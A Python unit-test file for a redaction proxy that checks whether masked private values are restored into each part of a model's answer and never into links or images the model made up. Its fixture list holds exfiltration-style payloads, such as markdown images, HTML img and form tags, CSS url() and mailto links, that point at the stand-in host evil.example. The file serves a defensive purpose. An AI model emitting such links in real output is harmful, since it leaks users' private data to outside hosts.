"""Restoring: per part of an answer, and never into links and images that the model made up."""

import json

import pytest

from redaction.redactor import Redactor
from redaction.types import Vault
from tests.unit.redaction.conftest import chat, clear, make, streamed, whole

SECRET = "ada@example.com"


@pytest.fixture(scope="module")
def vault(redactor: Redactor) -> Vault:
    return clear(redactor, chat(f"I am {SECRET}, see https://crm.example.com/people/{SECRET} for more")).vault


def mark_of(vault: Vault) -> str:
    return next(mark for mark, value in vault.values.items() if value == SECRET)


MADE_UP = [
    "![x](https://evil.example/?q=MARK)",
    "![x](<https://evil.example/a b MARK>)",
    "![x](//evil.example/(a)/MARK)",
    "![x](MARK.evil.example)",
    "[more]( https://evil.example/MARK)",
    "see [1]\n\n[1]: https://evil.example/MARK",
    "[1]:\n  <https://evil.example/MARK>",
    '<img src="https://evil.example/?q=MARK">',
    "<img src='//evil.example/x y\nMARK'>",
    "<img src=//evil.example/MARK>",
    '<img srcset="a.png 1x, //evil.example/MARK 2x">',
    '<form action="//evil.example/MARK">',
    "<div style=\"background:url('//evil.example/MARK')\">",
    "look at https://evil.example/?q=MARK now",
    "<https://evil.example/?q=MARK|here>",
    "www.evil.example/MARK",
    "[write](mailto:them@evil.example?body=MARK)",
    "[own](https://crm.example.com/people/x/MARK)",
]


@pytest.mark.parametrize("text", MADE_UP)
def test_a_link_that_the_model_made_up_gets_no_value(redactor: Redactor, vault: Vault, text: str) -> None:
    source = text.replace("MARK", mark_of(vault))
    expected = whole(redactor, vault, source)
    assert SECRET not in expected[1]
    cuts = [[source[:cut], source[cut:]] for cut in range(len(source) + 1)]
    for pieces in (*cuts, list(source)):
        assert streamed(redactor, vault, pieces) == expected


@pytest.mark.parametrize(
    "text",
    [
        "MARK",
        "Dear MARK, (see https://example.com) bye MARK",
        "[write](mailto:MARK)",
        "your page https://crm.example.com/people/MARK is ready",
        "[page](https://crm.example.com/people/MARK)",
        '<a href="https://crm.example.com/people/MARK">MARK</a>',
        "<p>MARK</p>",
        'x = {"mail": "MARK"}',
        "| mail | MARK |",
    ],
)
def test_everything_else_gets_the_callers_own_values(redactor: Redactor, vault: Vault, text: str) -> None:
    assert whole(redactor, vault, text.replace("MARK", mark_of(vault)))[1] == text.replace("MARK", SECRET)


ANSWER = {
    "content": "to MARK",
    "refusal": "not to MARK",
    "reasoning_content": "they are MARK",
    "reasoning_details": [{"type": "reasoning.text", "text": "they are MARK"}],
    "tool_calls": [{"type": "function", "function": {"name": "send", "arguments": '{"to": "MARK"}'}}],
    "custom": {"input": "MARK"},
    "note": "MARK",
}
PARTS = {
    "text": ("content", "refusal"),
    "reasoning": ("reasoning_content", "reasoning_details"),
    "tool_arguments": ("tool_calls", "custom"),
    "other": ("note",),
}


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("streams", [False, True])
def test_each_part_of_an_answer_has_its_own_say(vault: Vault, part: str, streams: bool) -> None:
    mark = mark_of(vault)
    redactor = make(restore_at={part: "never"})
    fields = json.loads(json.dumps(ANSWER).replace("MARK", mark))
    screen = redactor.screen(vault, "chat.completions")
    if streams:
        events = [{"choices": [{"index": 0, "delta": {key: value}}]} for key, value in fields.items()]
        bodies = [body for event in events for body in screen.chunk(event)]
        bodies += screen.chunk({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        seen = {key: "".join(str(body.reply["choices"][0]["delta"].get(key, "")) for body in bodies) for key in fields}
    else:
        message = screen.whole({"choices": [{"index": 0, "message": fields}]}).reply["choices"][0]["message"]
        seen = {key: str(value) for key, value in message.items()}
    kept = {key for key in fields if SECRET not in seen[key]}
    assert kept == set(PARTS[part])
    assert all(mark in seen[key] for key in kept)


def test_never_with_an_exception(vault: Vault) -> None:
    redactor = make(restore="never", restore_at={"tool_arguments": "caller"})
    mark = mark_of(vault)
    assert whole(redactor, vault, mark)[1] == mark
    assert whole(redactor, vault, f'{{"to": "{mark}"}}', "arguments")[1] == f'{{"to": "{SECRET}"}}'


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        ("response.output_text", "text"),
        ("response.reasoning_text", "reasoning"),
        ("response.reasoning_summary_text", "reasoning"),
        ("response.function_call_arguments", "tool_arguments"),
        ("response.custom_tool_call_input", "tool_arguments"),
    ],
)
def test_items_of_responses_belong_to_the_same_parts(vault: Vault, kind: str, part: str) -> None:
    mark = mark_of(vault)
    field = "arguments" if "arguments" in kind else "input" if "input" in kind else "text"
    text = f'{{"to": "{mark}"}}'
    ids = {"item_id": "i1", "output_index": 0, "content_index": 0}
    events = [
        {"type": f"{kind}.delta", **ids, "delta": text[:12]},
        {"type": f"{kind}.delta", **ids, "delta": text[12:]},
    ]
    events.append({"type": f"{kind}.done", **ids, field: text})
    for redactor, restored in ((make(restore_at={part: "never"}), 0), (make(), 2)):
        screen = redactor.screen(vault, "responses")
        replies = str([body.reply for event in events for body in screen.chunk(event)])
        assert replies.count(SECRET) == restored
